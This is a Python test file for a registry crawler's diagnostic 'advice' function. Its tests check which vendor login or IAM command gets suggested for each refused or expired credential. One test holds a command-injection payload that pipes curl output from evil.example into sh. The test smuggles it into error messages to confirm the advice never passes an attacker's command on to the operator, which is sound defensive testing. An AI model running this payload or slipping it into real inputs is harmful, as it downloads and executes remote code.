"""The command that mends a refused login, in the words of each vendor's own tool."""

import pytest

from crawler.config import RegistryConfig
from crawler.doctor.advice import advice
from crawler.errors import CredentialsError, Denied, SnapshotError, UnexpectedStatus, UnusableResponse

ECR = "123456789012.dkr.ecr.eu-central-1.amazonaws.com"
PASSWORD = {"username": "robot", "password": "s3cret-pass"}


def registry(target: str, **auth) -> RegistryConfig:
    return RegistryConfig(target=target, auth=auth)


def denied(target: str, path: str = "team/app/tags/list", status: int = 401) -> Denied:
    return Denied(f"GET https://{target}/v2/{path}", code="UNAUTHORIZED", message="no", http_status=status)


@pytest.mark.parametrize(
    ("target", "command"),
    [
        (
            ECR,
            (
                "run `aws ecr get-login-password --region eu-central-1 "
                f"| docker login --username AWS --password-stdin {ECR}`"
            ),
        ),
        (
            "public.ecr.aws/ours",
            (
                "run `aws ecr-public get-login-password --region us-east-1 "
                "| docker login --username AWS --password-stdin public.ecr.aws`"
            ),
        ),
        ("ours.azurecr.io", "run `az acr login --name ours`"),
        (
            "ghcr.io/owner",
            (
                "run `gh auth refresh --scopes read:packages`, "
                "then `gh auth token | docker login --username USER --password-stdin ghcr.io`"
            ),
        ),
        ("docker.io/owner", "run `docker login`"),
        ("registry.example.com", "run `docker login registry.example.com`"),
    ],
)
def test_doctor_advice_for_a_login_that_is_missing_or_refused(target, command):
    host = target.partition("/")[0]
    missing = CredentialsError(f"no docker or podman login for {host}; run `docker login {host}`")
    assert advice(registry(target), "", missing) == command
    assert advice(registry(target), "", denied(host)).startswith(command.partition(" |")[0].rstrip("`"))


def test_doctor_advice_for_a_password_of_ecr_that_has_expired():
    error = CredentialsError(f"https://{ECR}/v2/ refuses the credentials: 403 DENIED: expired")
    assert advice(registry(ECR, **PASSWORD), "", error) == (
        "`aws ecr get-login-password --region eu-central-1` prints a new password, for AWS as username"
    )


@pytest.mark.parametrize(
    ("account", "member"),
    [
        ("crawler@p.iam.gserviceaccount.com", "serviceAccount:crawler@p.iam.gserviceaccount.com"),
        ("ann@example.com", "user:ann@example.com"),
        ("oauth2accesstoken", "serviceAccount:ACCOUNT"),
        ("", "serviceAccount:ACCOUNT"),
    ],
)
def test_doctor_advice_names_the_member_of_a_role(account, member):
    error = denied("gcr.io", "acme/app/tags/list", 403)
    assert advice(registry("gcr.io/acme"), account, error) == (
        f"`gcloud projects add-iam-policy-binding acme --member={member} --role=roles/artifactregistry.reader`"
    )


def test_doctor_advice_doubts_a_project_that_may_not_exist():
    message = "Permission 'artifactregistry.repositories.list' denied (or it may not exist)."
    url = "GET https://artifactregistry.googleapis.com/v1/projects/acne/locations/us/repositories?pageSize=1000"
    error = Denied(url, code="IAM_PERMISSION_DENIED", message=message, http_status=403)
    assert advice(registry("gcr.io/acne"), "", error) == (
        "`gcloud projects add-iam-policy-binding acne --member=serviceAccount:ACCOUNT "
        "--role=roles/artifactregistry.reader`, if the project is spelled so"
    )


def test_doctor_advice_leaves_other_causes_of_a_403_to_their_own_hint():
    message = "Request is prohibited by organization's policy. vpcServiceControlsUniqueIdentifier: x"
    error = Denied("GET https://gcr.io/v2/acme/app/tags/list", code="DENIED", message=message, http_status=403)
    assert advice(registry("gcr.io/acme"), "", error).startswith("VPC Service Controls refused the request")


def test_doctor_advice_for_a_login_at_ecr_that_has_expired_with_403():
    assert advice(registry(ECR), "", denied(ECR, "_catalog", 403)).startswith("run `aws ecr get-login-password ")


@pytest.mark.parametrize(
    ("error", "expected"),
    [
        (CredentialsError("no AWS credentials were found: set AWS_PROFILE, or …"), "set AWS_PROFILE, or run"),
        (CredentialsError("… signed by botocore, which is not installed: pip install …"), "`pip install 'registry-"),
        (SnapshotError("/x: the file system has no locks (No locks available): use --no-lock"), "use --no-lock"),
        (SnapshotError("/x: Read-only file system"), "name a folder that this user may write"),
        (SnapshotError("/x: No space left on device"), "free some space there, or name a folder on another disk with"),
        (SnapshotError("/x: Disk quota exceeded"), "free some space there, or name a folder on another disk with"),
        (
            UnusableResponse("GET https://h/v2/", code="TLS", message="certificate is not yet valid: check the clock"),
            "set the clock of this machine by NTP",
        ),
    ],
)
def test_doctor_advice_of_other_refusals(error, expected):
    assert advice(registry("registry.example.com"), "", error).startswith(expected)


HOSTILE = "$(curl${IFS}evil.example|sh)"


@pytest.mark.parametrize(
    "error",
    [
        Denied(
            "GET u", code="USER_PROJECT_DENIED", message=f"may not use the quota project {HOSTILE} (x", http_status=403
        ),
        Denied("GET u", code="SERVICE_DISABLED", message="off", http_status=403, consumer=f"projects/{HOSTILE}"),
        Denied(
            "GET u",
            code="X",
            message=f"Artifact Registry API has not been used in project {HOSTILE} before or it is disabled",
            http_status=403,
        ),
        Denied(f"GET https://h/v1/projects/{HOSTILE}/locations", code="X", message="no", http_status=403),
        CredentialsError(f"the token server {HOSTILE} of h is not trusted with the credentials"),
        CredentialsError(f"IAM refuses to impersonate {HOSTILE}@x: grant roles/iam.serviceAccountTokenCreator"),
        CredentialsError(f"Google refuses the credentials: the key of {HOSTILE} was deleted"),
    ],
)
def test_doctor_advice_has_no_command_of_somebody_else(error):
    """Operators copy what is advised into a shell, and a registry or an API writes its errors."""
    assert "$" not in advice(registry("gcr.io/acme"), f"{HOSTILE}@example.com", error)


def test_doctor_advice_of_a_proxy_is_not_taken_from_a_name_or_a_message():
    named = Denied("GET https://proxy.example.com/v2/", code="DENIED", message="the proxy x refuses", http_status=403)
    assert "PROXY" not in advice(registry("proxy.example.com"), "", named)


def test_doctor_advice_is_none_where_the_cause_is_not_certain():
    error = UnexpectedStatus("GET https://h/v2/", code="HTTP_500", message="no reason given", http_status=500)
    assert advice(registry("registry.example.com"), "", error) == ""
